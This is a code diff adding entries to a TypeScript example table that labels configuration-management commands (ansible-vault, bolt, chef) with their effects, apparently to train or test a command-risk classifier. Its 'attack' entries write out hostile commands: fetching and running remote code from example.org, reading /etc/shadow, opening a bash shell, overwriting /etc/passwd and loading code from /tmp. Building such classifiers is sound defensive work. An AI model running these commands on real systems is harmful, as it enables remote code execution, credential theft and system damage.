@@ -67,7 +67,10 @@ export const configurationManagement1: ExampleTable = {
       'ansible-vault decrypt secrets.yml → read secret://secrets.yml; read secret://ansible-vault',
   },
   'ansible-vault encrypt': {
-    use: 'ansible-vault encrypt secrets.yml → write secrets.yml',
+    use: [
+      'ansible-vault encrypt secrets.yml → write secrets.yml',
+      'ansible-vault encrypt --output=vault.yml plain.yml → write vault.yml; use plain.yml',
+    ],
     attack: 'ansible-vault encrypt /etc/passwd → write /etc/passwd',
   },
   'ansible-vault rekey': {
@@ -87,6 +90,10 @@ export const configurationManagement1: ExampleTable = {
   },
   berks: {
     use: 'berks install → install berks',
+  },
+  bolt: {
+    use: 'bolt -t web plan run app::deploy → send web',
+    attack: 'bolt -m /tmp task run facts → load /tmp',
   },
   'bolt apply': {
     use: 'bolt apply site.pp -t web → read site.pp; send web',
@@ -108,6 +115,10 @@ export const configurationManagement1: ExampleTable = {
     attack:
       'curl -so s.sh https://example.org/x && bolt script run s.sh -t web → execute ‹https://example.org/x›; send web',
   },
+  'bolt task': {
+    use: 'bolt task run facts -t web → send web',
+    attack: 'bolt task run facts -m /tmp -t web → load /tmp; send web',
+  },
   'chef exec': {
     use: 'chef exec cat notes.txt → read notes.txt',
     attack: ['chef exec cat /etc/shadow → read /etc/shadow', 'chef exec bash → shell bash'],
@@ -124,6 +135,7 @@ export const configurationManagement1: ExampleTable = {
     attack: [
       'chef-client --local-mode --recipe-url=https://example.org/x.tgz → execute ‹https://example.org/x.tgz›',
       'curl -so c.rb https://example.org/x && chef-client -c c.rb → execute ‹https://example.org/x›',
+      'chef-client -z --recipe-url=/tmp/x.tgz → run /tmp/x.tgz; read /tmp/x.tgz',
     ],
     unclear: 'chef-client → who gives it orders',
   },
